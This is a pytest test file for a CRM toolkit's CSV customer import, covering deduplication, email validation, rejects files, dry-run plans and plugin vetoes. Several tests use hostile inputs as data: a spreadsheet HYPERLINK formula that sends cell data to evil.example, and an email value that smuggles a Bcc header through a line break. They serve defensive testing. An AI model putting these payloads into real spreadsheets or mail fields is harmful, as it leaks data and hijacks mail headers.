"""What becomes of rows that are customers."""

import pytest

from crmkit import Attribute, ChangeRejectedError, Plugin, hookimpl
from crmkit.plugins.foundation import exchange


def test_rows_are_created_updated_or_unchanged(shop, people):
    path = shop.rows(people, "1,Ana,ana@example.com", "2,Bo,")
    assert shop.counts(shop.run(path, people)) == {"created": 2}
    path = shop.rows(people, "1,Ana Kowalska,ana@example.com", "2,Bo,", "3,Cy,")
    report = shop.run(path, people)
    assert shop.counts(report) == {"created": 1, "updated": 1, "unchanged": 1}
    assert [(each.name, each.version) for each in shop.customers()] == [
        ("Ana Kowalska", 2),
        ("Bo", 1),
        ("Cy", 1),
    ]


def test_an_empty_cell_never_erases(shop, people):
    shop.run(shop.rows(people, "1,Ana,ana@example.com"), people)
    report = shop.run(shop.rows(people, "1,,ana@work.example"), people)
    assert shop.counts(report) == {"updated": 1}
    (ana,) = shop.customers()
    assert ana.name == "Ana"
    assert [each.value for each in ana.contact_points] == ["ana@example.com", "ana@work.example"]


def test_the_same_file_again_does_nothing_and_says_so(shop, people, clock):
    path = shop.rows(people, "1,Ana,", "2,Bo,")
    shop.run(path, people)
    before = shop.dump()
    clock.move(days=1)
    again = shop.run(path, people)
    assert shop.counts(again) == {"unchanged": 2}
    assert again.already.isoformat() == "2026-01-05T09:00:00+00:00"
    assert shop.dump() == before


@pytest.mark.parametrize("rows", [["1,Ana,", "2,Bo,", "3,Cy,"], ["2,Bo,", "1,Ana,"]])
def test_a_changed_or_reordered_file_is_a_new_import_of_known_rows(shop, people, rows):
    shop.run(shop.rows(people, "1,Ana,", "2,Bo,"), people)
    report = shop.run(shop.rows(people, *rows), people)
    assert report.already is None
    assert report.unchanged == 2


@pytest.mark.parametrize("size", [1, 2, 5_000])
def test_two_rows_that_disagree_about_a_customer_are_told_wherever_they_are(shop, people, size):
    path = shop.rows(people, "1,Ana,", "2,Bo,", "1,Anna,", "1,Ana,ana@example.com")
    report = shop.run(path, people, rows_per_unit=size)
    assert shop.counts(report) == {"created": 2, "updated": 1, "rejected": 1}
    (reason,) = report.reasons
    assert (reason.line, reason.example) == (4, "name: 'Anna', but 'Ana' in line 2")
    before = shop.dump()
    again = shop.run(path, people, rows_per_unit=size)
    assert shop.counts(again) == {"unchanged": 3, "rejected": 1}
    assert shop.dump() == before


@pytest.mark.parametrize(
    "address",
    [
        "ana@",
        "alice@example.org(<bob@evil.com>",
        "a@x.org,b@x.org",
        "a@localhost",
        "a@[127.0.0.1]",
        "a@x..org",
        "a" * 65 + "@example.com",
    ],
)
def test_an_address_that_is_none_is_rejected_not_mended(shop, people, address):
    report = shop.run(shop.rows(people, f'1,Ana,"{address}"', "2,Bo,"), people)
    assert shop.counts(report) == {"created": 1, "rejected": 1}
    assert shop.reasons(report) == ["email: expected an address such as ana@example.com"]


def test_an_address_with_a_line_break_is_rejected(shop, people):
    report = shop.run(shop.rows(people, '1,Ana,"a@x.org', 'Bcc: evil@x.org"'), people)
    assert shop.counts(report) == {"rejected": 1}


def test_spellings_of_one_address_are_one_contact_point(shop, people):
    rows = ("1,Ana,ANN@Example.COM", "1,Ana,ann@example.com.", "1,Ana, ann@example.com ")
    report = shop.run(shop.rows(people, *rows), people)
    assert shop.counts(report) == {"created": 1, "unchanged": 2}
    assert len(shop.customers()[0].contact_points) == 1


def test_a_formula_is_stored_as_it_is(shop, people):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    doubled = formula.replace('"', '""')
    shop.run(shop.rows(people, f'1,"{doubled}",'), people)
    assert shop.customers()[0].name == formula


def test_rejects_hold_the_original_columns_and_can_be_imported_when_mended(shop, people):
    path = shop.file('id,note,name,email\n1,x,Ana,ana@\n2,y,Bo,\n3,z\n4,"q,Cy,\n')
    report = shop.run(path, people)
    assert shop.counts(report) == {"created": 1, "rejected": 3}
    assert report.rejects == shop.folder / "in.rejects.csv"
    header, ana, short, odd = report.rejects.read_text().splitlines()
    assert header == "id,note,name,email,crmkit_error"
    assert ana == "1,x,Ana,ana@,line 2: email: expected an address such as ana@example.com ('ana@')"
    assert short.startswith("3,z,,,")
    assert odd.startswith('4,"""q",Cy,,')
    again = shop.run(report.rejects, people)
    assert shop.counts(again) == {"rejected": 3}
    assert again.rejects.read_text().splitlines()[0] == header
    shop.file(report.rejects.read_text().replace(",ana@,", ",ana@example.com,"), "mended.csv")
    mended = shop.run(shop.folder / "mended.csv", people)
    assert shop.counts(mended) == {"created": 1, "rejected": 2}


def test_nothing_rejected_leaves_no_file(shop, people):
    report = shop.run(shop.rows(people, "1,Ana,"), people)
    assert report.rejects is None
    assert [each.name for each in shop.folder.iterdir()] == ["in.csv"]


def test_rejects_may_go_elsewhere_but_not_over_the_file(shop, people, tmp_path):
    path = shop.rows(people, "1,Ana,ana@")
    elsewhere = tmp_path / "fix me.csv"
    assert shop.run(path, people, rejects=elsewhere).rejects == elsewhere
    assert elsewhere.stat().st_mode & 0o777 == 0o600
    for wrong, told in ((path, "overwrite the file itself"), (tmp_path, "a folder")):
        with pytest.raises(exchange.FileRefusedError, match=told):
            shop.run(path, people, rejects=wrong)
    with pytest.raises(exchange.FileRefusedError, match="name another place with --rejects"):
        shop.run(path, people, rejects=tmp_path / "none" / "x.csv")


def test_a_plan_writes_nothing_and_says_what_the_run_then_says(shop, people):
    path = shop.rows(people, "1,Ana,", "2,Bo,bo@", "3,Cy,", "1,Ana,x@example.com", ",No,")
    plan = shop.plan(path, people, rows_per_unit=2)
    assert plan.planned
    assert shop.dump() == []
    assert [each.name for each in shop.folder.iterdir()] == ["in.csv"]
    run = shop.run(path, people, rows_per_unit=2)
    assert shop.counts(run) == shop.counts(plan)
    assert (run.reasons, run.rejects, run.customers) == (plan.reasons, plan.rejects, plan.customers)


def test_a_veto_rejects_its_row_only(shop, people, make_crm):
    class Guard:
        @hookimpl
        def crmkit_saving(self, unit, changes):
            if any(each.name == "Mallory" for each in changes.after):
                raise ChangeRejectedError("no Mallory, please")

    shop.crm = make_crm("exchange", Plugin(name="guard", summary="", hooks=Guard()))
    rows = [f"{n},{'Mallory' if n == 7 else f'Name {n}'}," for n in range(20)]
    path = shop.rows(people, *rows)
    plan = shop.plan(path, people)
    report = shop.run(path, people)
    assert shop.counts(report) == shop.counts(plan) == {"created": 19, "rejected": 1}
    assert (shop.reasons(report), report.reasons[0].line) == (["no Mallory, please"], 9)


def test_an_identity_of_somebody_else_is_rejected(shop, people):
    mapping = people.replace('email = "email"', 'email = "identity.club"')
    report = shop.run(shop.rows(people, "1,Ana,c1", "2,Bo,c2"), mapping)
    assert shop.counts(report) == {"created": 2}
    report = shop.run(shop.rows(people, "1,Ana,c2", "3,Cy,c3"), mapping)
    assert shop.counts(report) == {"created": 1, "rejected": 1}


def test_attributes_are_typed(make_crm, shop, people):
    defined = [Attribute(name="visits", type="integer"), Attribute(name="vip", type="boolean")]
    shop.crm = make_crm("exchange", attributes=defined)
    mapping = people.replace("email =", "vip =").replace('"email"', '"attributes.vip"')
    mapping += 'visits = "attributes.visits"\n'
    path = shop.file("id,name,vip,visits\n1,Ana,yes,12\n2,Bo,maybe,1\n3,Cy,no,1.5\n")
    report = shop.run(path, mapping)
    assert shop.counts(report) == {"created": 1, "rejected": 2}
    assert dict(shop.customers()[0].attributes) == {"vip": True, "visits": 12}
